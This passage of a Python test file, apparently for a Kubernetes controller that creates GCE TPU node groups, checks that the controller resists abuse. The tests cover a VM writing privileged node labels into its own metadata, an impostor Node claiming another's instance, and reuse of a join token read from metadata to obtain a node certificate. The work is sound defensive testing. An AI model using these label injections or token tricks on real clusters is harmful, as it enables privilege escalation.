    obj["metadata"]["namespace"] = ns
    obj["spec"]["project"] = PROJECT
    ic = obj["spec"]["instanceConfig"]
    for k, v in change.items():
        ic[k] = {**ic[k], **v} if k == "metadata" else v
    admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "tpunodegroups", ns), body=obj)
    with Running(control_plane, gce.endpoint):
        g = wait("NotAllowed", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
            get(admin, tng_path(ns, "v7x-single-host"))))
        assert field + ":" in cond(g, "Ready")["message"], cond(g, "Ready")
        # the condition is written before the Event is queued: wait for the Event, not just a flush
        (event,) = wait("the NotAllowed Event", lambda: recorder.flush() and [
            e for e in group_events(admin, ns, "v7x-single-host") if e["reason"] == "NotAllowed"])
        assert event["type"] == "Warning" and field + ":" in event["message"]
        time.sleep(0.5)
        assert gce.compute.stats["requests"] == 0  # not a single call: nothing made, nothing read
        assert admin.request("GET", custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns))["items"] == []
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None)
    assert group_secrets(admin, ns) == []


def test_a_vm_cannot_label_its_node_through_its_metadata(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
    """Issue 33.5: the VM (root on it, or its service account) can write its own instance
    metadata; labels that NodeRestriction keeps from kubelets (node-role.kubernetes.io/*,
    node-restriction.kubernetes.io/*) do not reach its Node through the controller: the Node gets
    the group's own label set only."""
    ns = kube_namespace
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns, SINGLE)
        (inst,) = wait("the VM offered a join", lambda: [
            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
        c = gce.compute
        with c.lock:  # as the VM's setMetadata would
            res = next(r for r in c.resources.values() if r.get("name") == inst["name"])
            res["metadata"]["items"] = [i for i in res["metadata"]["items"] if i["key"] != "kube-labels"] + [{
                "key": "kube-labels", "value": "node-role.kubernetes.io/control-plane=,"
                "node-restriction.kubernetes.io/tier=trusted,cloud.google.com/gke-tpu-topology=16x16"}]
        _register(admin, inst, PROJECT, "us-central1-c")
        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
        labels = admin.request("GET", f"/api/v1/nodes/{inst['name']}")["metadata"]["labels"]
        assert not [k for k in labels if k.startswith(("node-role.kubernetes.io/", "node-restriction.kubernetes.io/"))]
        assert labels["cloud.google.com/gke-tpu-topology"] == "2x2x1"  # the group's, not the VM's word
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)


def test_a_node_naming_another_groups_instance_is_not_adopted(control_plane, nodegroup_rbac, gce, admin,
                                                             kube_namespace):
    """Issue 33.5: a kubelet chooses its providerID. A Node claiming the group's instance by
    providerID alone gets neither the group's labels nor taint, does not make the group Ready,
    and is neither cordoned nor deleted with it; the instance's own Node is."""
    ns = kube_namespace
    impostor = f"impostor-{uuid.uuid4().hex[:8]}"
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns, SINGLE)
        (inst,) = wait("the VM offered a join", lambda: [
            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
        _register(admin, {"name": impostor}, PROJECT, "us-central1-c", claims=inst["name"])  # another's instance
        time.sleep(1.5)
        node = admin.request("GET", f"/api/v1/nodes/{impostor}")
        assert "cloud.google.com/tpu-node-group" not in node["metadata"]["labels"]
        assert not [t for t in node["spec"].get("taints") or [] if t["key"] == "google.com/tpu"]
        g = get(admin, tng_path(ns, "v7x-single-host"))
        assert cond(g, "Ready")["status"] == "False" and g["status"]["nodeSummary"]["ready"] == 0
        _register(admin, inst, PROJECT, "us-central1-c")  # the instance's own Node
        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
    node = get(admin, f"/api/v1/nodes/{impostor}")
    assert node is not None and not node["spec"].get("unschedulable")
    assert get(admin, f"/api/v1/nodes/{inst['name']}") is None
    admin.request("DELETE", f"/api/v1/nodes/{impostor}")


def token_refused(control_plane, token: str) -> bool:
    """Whether the API server refuses the join token (401: its Secret is gone)."""
    from tests.controller.test_jointokens import whoami

    try:
        whoami(control_plane, token)
    except KubeError as e:
        return e.code == 401
    return False


def test_a_join_token_joins_one_vm_and_is_revoked_once_it_has(control_plane, nodegroup_rbac, gce, admin,
                                                             kube_namespace):
    """Issue 33.5: each VM gets a token of its own, and the API server stops taking it the moment
    that VM's Node exists, while the other VM's still works."""
    from tests.controller.test_jointokens import whoami

    ns = kube_namespace
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns)
        insts = wait("two VMs offered", lambda: (lambda xs: xs if len(xs) == 2 else None)(
            [i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)]))
        first, second = (metadata(i)["kubeadm-join-token"] for i in insts)
        assert first.split(".")[0] != second.split(".")[0]
        assert whoami(control_plane, first)["username"] == f"system:bootstrap:{first.split('.')[0]}"
        _register(admin, insts[0], PROJECT, "us-east5-b")  # the first VM joined
        wait("the first VM's token refused", lambda: token_refused(control_plane, first))
        assert whoami(control_plane, second)["username"] == f"system:bootstrap:{second.split('.')[0]}"
        assert "kubeadm-join-token" in metadata(next(i for i in gce.compute.instances(PROJECT)
                                                     if i["name"] == insts[1]["name"]))
        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
    assert group_secrets(admin, ns) == []


def test_orphan_and_the_join_token_cap_are_the_operators(control_plane, nodegroup_rbac, gce, admin, kube_namespace,
                                                         recorder):
    """Issue 33.5: a namespace whose rule allows no Orphan gets its group deleted with its GCE
    resources (and an Event naming spec.deletionPolicy); a namespace capped at one join token
    gets one VM offered at a time."""
    ns = kube_namespace
    rules = {"*": RULES["*"], ns: {**RULES["*"], "deletionPolicies": ["Delete"], "maxJoinTokens": 1}}
    with Running(control_plane, gce.endpoint, placement=rules):
        make_group(admin, ns)
        wait("one VM offered", lambda: len([i for i in gce.compute.instances(PROJECT)
                                           if "kubeadm-join-token" in metadata(i)]) == 1)
        g = wait("waiting on the cap", lambda: (lambda o: o if "maxJoinTokens" in cond(o, "Ready").get("message", "")
                                                else None)(get(admin, tng_path(ns, "v6e-multi-host"))))
        assert len(g["status"]["joinTokens"]) == 1
        time.sleep(1.0)
        assert len([i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)]) == 1
        first = next(i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i))
        _register(admin, first, PROJECT, "us-east5-b")  # its token spent: the next VM gets one
        wait("the second VM offered", lambda: any("kubeadm-join-token" in metadata(i) for i in
                                                  gce.compute.instances(PROJECT) if i["name"] != first["name"]))
        g = admin.request("GET", tng_path(ns, "v6e-multi-host"))
        g["spec"]["deletionPolicy"] = "Orphan"
        admin.request("PUT", tng_path(ns, "v6e-multi-host"), body=g)
        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
        assert recorder.flush()
        assert any(e["reason"] == "NotAllowed" and "spec.deletionPolicy" in e["message"]
                   for e in group_events(admin, ns, "v6e-multi-host"))
    assert not [p for p in gce.compute.resources if p.startswith(f"projects/{PROJECT}/")]
    assert get(admin, f"/api/v1/nodes/{first['name']}") is None


def test_a_reused_token_id_is_not_spent_by_its_earlier_tokens_certificate(control_plane, nodegroup_rbac, gce, admin,
                                                                         kube_namespace, monkeypatch):
    """Join token ids come from a pool of 64 and are reused; a certificate request made with an
    id's earlier token stays (Kubernetes deletes issued ones after an hour). A new token with that
    id is not spent by it: its VM keeps it, and the namespace's cap of one still holds. (Before:
    the new token read as used as soon as the controller looked, was revoked, and its VM got no
    other: with one id no VM was ever offered a join; with 64, the next VM was offered one while
    the first kept a dead token in its metadata: two VMs offered under a cap of one, a CI failure.)"""
    from controller.nodegroups import jointokens
    from tests.controller.test_jointokens import unused_ids

    ns = kube_namespace
    monkeypatch.setattr(jointokens, "POOL", unused_ids(admin, 1))  # one id: it must be reused
    earlier = jointokens.JoinTokens(admin, ca_pem=control_plane.ca_file.read_bytes())
    token = earlier.ensure(f"{ns}/earlier", f"127.0.0.1:{control_plane.port}").token
    csr = kubelet_csr(control_plane, token, f"earlier-{ns}")
    csr_path = "/apis/certificates.k8s.io/v1/certificatesigningrequests/" + csr["metadata"]["name"]
    try:
        wait("the earlier token's certificate", lambda: (get(admin, csr_path) or {}).get("status", {}).get("certificate"))
        earlier.revoke(f"{ns}/earlier")
        time.sleep(1.0)  # a second later (creationTimestamps are whole seconds)
        rules = {"*": RULES["*"], ns: {**RULES["*"], "maxJoinTokens": 1}}
        with Running(control_plane, gce.endpoint, placement=rules):
            make_group(admin, ns)

            def offered():
                return [i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)
                        and i["name"].startswith("v6e-multi-host-mig-")]
            (inst,) = wait("one VM offered", lambda: offered() or None)
            assert metadata(inst)["kubeadm-join-token"].startswith(jointokens.POOL[0] + ".")
            wait("waiting on the cap", lambda: "maxJoinTokens" in cond(get(admin, tng_path(ns, "v6e-multi-host")),
                                                                       "Ready").get("message", ""))
            time.sleep(2.0)
            g = get(admin, tng_path(ns, "v6e-multi-host"))
            assert [i["name"] for i in offered()] == [inst["name"]]
            assert g["status"]["joinTokens"] == [jointokens.POOL[0]], g["status"]
            assert "has used its join token" not in cond(g, "Ready")["message"]
            assert not token_refused(control_plane, metadata(inst)["kubeadm-join-token"])
            admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
            wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
    finally:
        admin.request("DELETE", csr_path)


def test_a_waiting_vms_stale_token_gives_way_to_a_new_one_under_the_cap(control_plane, nodegroup_rbac, gce, admin,
                                                                         kube_namespace):
    """A VM that waited until its unused token has less than 10 minutes left gets a new one, and
    the old one is revoked first: under a cap of one the stale token must not hold the VM's place
    (before: the new one was refused by the cap the old one filled, and the VM waited for good)."""
    ns = kube_namespace
    rules = {"*": RULES["*"], ns: {**RULES["*"], "maxJoinTokens": 1}}
    with Running(control_plane, gce.endpoint, placement=rules) as running:
        make_group(admin, ns, SINGLE)
        (inst,) = wait("the VM offered a join", lambda: [
            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)
            and i["name"].startswith("v7x-single-host-mig-")] or None)
        first = metadata(inst)["kubeadm-join-token"]
        (nodes,) = [c.reconciler.nodes for c in running.manager.controllers if hasattr(c.reconciler, "nodes")]
        nodes._join_tokens().clock = lambda: time.time() + 3300  # 5 of its 60 minutes left
        def offered() -> str | None:
            now = next(i for i in gce.compute.instances(PROJECT) if i["name"] == inst["name"])
            token = metadata(now).get("kubeadm-join-token")
            return token if token and token != first else None
        new = wait("a new token offered", offered)
        wait("the stale token refused", lambda: token_refused(control_plane, first))
        g = get(admin, tng_path(ns, "v7x-single-host"))
        assert g["status"]["joinTokens"] == [new.split(".")[0]], g["status"]
        assert not token_refused(control_plane, new)
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=90)


def kubelet_csr(control_plane, token: str, node: str) -> dict:
    """What a kubelet's TLS bootstrap does with the join token: a client-certificate request for
    ``system:node:<node>``, made as the token's bootstrap user (kubeadm's auto-approval signs it)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    req = x509.CertificateSigningRequestBuilder().subject_name(x509.Name([
        x509.NameAttribute(NameOID.ORGANIZATION_NAME, "system:nodes"),
        x509.NameAttribute(NameOID.COMMON_NAME, f"system:node:{node}")])).sign(key, hashes.SHA256())
    c = Client(Config(control_plane.url, str(control_plane.ca_file), token=token))
    return c.request("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", body={
        "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": {"generateName": "node-csr-"},
        "spec": {"request": base64.b64encode(req.public_bytes(serialization.Encoding.PEM)).decode(),
                 "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
                 "usages": ["digital signature", "client auth"]}})


def test_a_join_token_is_revoked_at_its_first_use(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
    """Issue 33.5: whoever reads the VM's metadata first (the token is there for anyone with
    compute.instances.get) gets one node certificate with it, not one per node name: once a
    certificate is issued to a request made with the token, the token is revoked, before any
    Node exists, and the VM is not given another."""
    from tests.controller.test_jointokens import whoami

    ns = kube_namespace
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns, SINGLE)
        (inst,) = wait("the VM offered a join", lambda: [
            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
        token = metadata(inst)["kubeadm-join-token"]
        csr = kubelet_csr(control_plane, token, inst["name"])
        wait("the certificate issued", lambda: (get(admin, "/apis/certificates.k8s.io/v1/certificatesigningrequests/"
                                                   + csr["metadata"]["name"]) or {}).get("status", {}).get("certificate"))
        wait("the token refused", lambda: token_refused(control_plane, token))
        with pytest.raises(KubeError) as err:  # a second node name: not with this token
            kubelet_csr(control_plane, token, "another-node")
        assert err.value.code == 401
        time.sleep(1.0)
        g = admin.request("GET", tng_path(ns, "v7x-single-host"))
        assert not g["status"].get("joinTokens") and group_secrets(admin, ns) == []  # no other token for the VM
        assert metadata(gce.compute.instances(PROJECT)[0])["kubeadm-join-token"] == token
        assert "has used its join token" in cond(g, "Ready")["message"]
        _register(admin, inst, PROJECT, "us-central1-c")
        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
        wait("join metadata withdrawn", lambda: "kubeadm-join-token" not in metadata(gce.compute.instances(PROJECT)[0]))
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
    admin.request("DELETE", "/apis/certificates.k8s.io/v1/certificatesigningrequests/" + csr["metadata"]["name"])
